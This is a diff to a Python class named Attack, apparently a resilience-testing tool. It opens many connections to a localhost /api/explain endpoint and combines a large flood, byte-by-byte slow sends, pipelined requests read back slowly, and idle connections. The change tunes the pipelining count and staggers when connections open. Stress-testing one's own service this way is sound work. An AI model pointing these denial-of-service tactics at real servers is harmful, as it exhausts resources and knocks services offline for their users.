@@ -22,8 +22,10 @@ UNANSWERED = 8  # of them, at most
 FLOOD_BYTES, PIECE = 200 << 20, 1 << 20
 PAUSE = 0.2  # seconds until a connection that was closed is opened again
 SLOW, BYTE_SECONDS = 40, 0.1  # connections; from byte to byte
-READERS, READ_BYTES = 24, 512  # connections; bytes that they take each time
+READERS, PIPELINED = 24, 4  # connections; long answers that each asks for at once
+READ_BYTES = 512  # that they take each time
 IDLE = 150  # connections
+STAGGER = 2.5  # seconds until all connections are open
 PATIENCE = 60.0  # seconds for an answer
 HEAD = b"POST /api/explain HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
 
@@ -81,10 +83,10 @@ class Attack:
         )
 
     async def readers(self) -> None:
-        """Ask for more than is taken: twenty long answers on each connection, some bytes a time."""
+        """Ask for more than is taken: some long answers on each connection, a few bytes a time."""
         text = b'"' + b"the moon and the rocket " * 60 + b'"'
         body = b'{"target": "all", "documents": [' + text + b"]}"
-        asked = (HEAD + b"Content-Length: %d\r\n\r\n" % len(body) + body) * 20
+        asked = (HEAD + b"Content-Length: %d\r\n\r\n" % len(body) + body) * PIPELINED
         await self._many(READERS, lambda _: lambda opened: self._nibbled(opened, asked))
 
     async def idle(self) -> None:
@@ -100,7 +102,7 @@ class Attack:
         """Keep so many connections; one that was closed is opened again."""
 
         async def keep(one: int) -> None:
-            await asyncio.sleep(one / number)  # not all at the same moment
+            await asyncio.sleep(STAGGER * one / number)  # not all at the same moment
             while True:
                 await self._once(act(one))
                 await asyncio.sleep(PAUSE)
